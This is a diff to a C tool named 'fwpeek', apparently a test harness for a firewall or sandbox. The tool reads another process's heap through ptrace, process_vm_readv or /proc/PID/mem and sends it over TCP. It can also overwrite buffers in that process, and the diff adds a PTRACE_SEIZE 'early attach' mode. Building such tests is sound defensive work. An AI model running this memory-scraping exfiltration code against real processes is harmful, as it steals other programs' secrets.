@@ -5,13 +5,16 @@
  * what a debugger-like exfiltrator does.
  *
  *   fwpeek vm|ptrace|mem PID ADDR PORT
+ *   fwpeek early PID ADDR PORT ATTACHED HELD
  *   fwpeek vmw|poke|memw PID FILE MARKFILE
  *
  * Reading: up to 64 KiB of PID's heap (its "[heap]" mapping in
  * /proc/PID/maps, else its first writable private mapping) with
  * process_vm_readv (vm), PTRACE_ATTACH and PTRACE_PEEKDATA (ptrace) or
  * pread on /proc/PID/mem (mem), then sent over TCP to ADDR:PORT (IPv4);
- * prints "peeked=N sent=N".
+ * prints "peeked=N sent=N". early: PTRACE_SEIZE first, creates ATTACHED,
+ * waits for HELD (PID read its file since), then PTRACE_INTERRUPT and
+ * PEEKDATA: a debugger attached before the data was there.
  *
  * Writing: reads FILE (up to 64 KiB), finds in PID's heap the buffer that
  * holds MARKFILE's first bytes (PID read MARKFILE and will send it), and
@@ -105,15 +108,12 @@ static size_t peek_vm(pid_t pid)
 	return n;
 }
 
-static size_t peek_ptrace(pid_t pid)
+/* PTRACE_PEEKDATA pid's heap into buf (pid stopped), then detach */
+static size_t peek_words(pid_t pid)
 {
 	unsigned long start;
 	size_t len = region_head(pid, &start), n;
 
-	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL))
-		die("PTRACE_ATTACH");
-	if (waitpid(pid, NULL, __WALL) < 0)
-		die("waitpid");
 	for (n = 0; n + sizeof(long) <= len; n += sizeof(long)) {
 		long word;
 
@@ -126,6 +126,42 @@ static size_t peek_ptrace(pid_t pid)
 	if (ptrace(PTRACE_DETACH, pid, NULL, NULL))
 		die("PTRACE_DETACH");
 	return n;
+}
+
+static size_t peek_ptrace(pid_t pid)
+{
+	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL))
+		die("PTRACE_ATTACH");
+	if (waitpid(pid, NULL, __WALL) < 0)
+		die("waitpid");
+	return peek_words(pid);
+}
+
+/* Attached (PTRACE_SEIZE, which does not stop pid) before pid reads
+ * anything: creates ATTACHED, waits up to 60 s for HELD (pid read its
+ * file), then stops pid and peeks */
+static size_t peek_early(pid_t pid, const char *attached, const char *held)
+{
+	int fd, i;
+
+	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL))
+		die("PTRACE_SEIZE");
+	fd = open(attached, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
+	if (fd < 0)
+		die(attached);
+	close(fd);
+	for (i = 0; access(held, F_OK); i++) {
+		if (i == 1200) {
+			fprintf(stderr, "fwpeek: no %s after 60 s\n", held);
+			exit(1);
+		}
+		usleep(50000);
+	}
+	if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL))
+		die("PTRACE_INTERRUPT");
+	if (waitpid(pid, NULL, __WALL) < 0)
+		die("waitpid");
+	return peek_words(pid);
 }
 
 static size_t peek_mem(pid_t pid)
@@ -276,10 +312,13 @@ int main(int argc, char **argv)
 	if (argc == 5 && (!strcmp(argv[1], "vmw") || !strcmp(argv[1], "poke") ||
 			  !strcmp(argv[1], "memw")))
 		return poke(argv[1], atoi(argv[2]), argv[3], argv[4]);
-	if (argc != 5 || (strcmp(argv[1], "vm") && strcmp(argv[1], "ptrace") &&
-			  strcmp(argv[1], "mem"))) {
-		fprintf(stderr, "usage: fwpeek vm|ptrace|mem PID ADDR PORT\n"
-				"       fwpeek vmw|poke|memw PID FILE MARKFILE\n");
+	if ((argc != 5 || (strcmp(argv[1], "vm") && strcmp(argv[1], "ptrace") &&
+			   strcmp(argv[1], "mem"))) &&
+	    (argc != 7 || strcmp(argv[1], "early"))) {
+		fprintf(stderr,
+			"usage: fwpeek vm|ptrace|mem PID ADDR PORT\n"
+			"       fwpeek early PID ADDR PORT ATTACHED HELD\n"
+			"       fwpeek vmw|poke|memw PID FILE MARKFILE\n");
 		return 2;
 	}
 	pid = atoi(argv[2]);
@@ -292,6 +331,8 @@ int main(int argc, char **argv)
 		got = peek_vm(pid);
 	else if (!strcmp(argv[1], "ptrace"))
 		got = peek_ptrace(pid);
+	else if (!strcmp(argv[1], "early"))
+		got = peek_early(pid, argv[5], argv[6]);
 	else
 		got = peek_mem(pid);
 	fd = socket(AF_INET, SOCK_STREAM, 0);
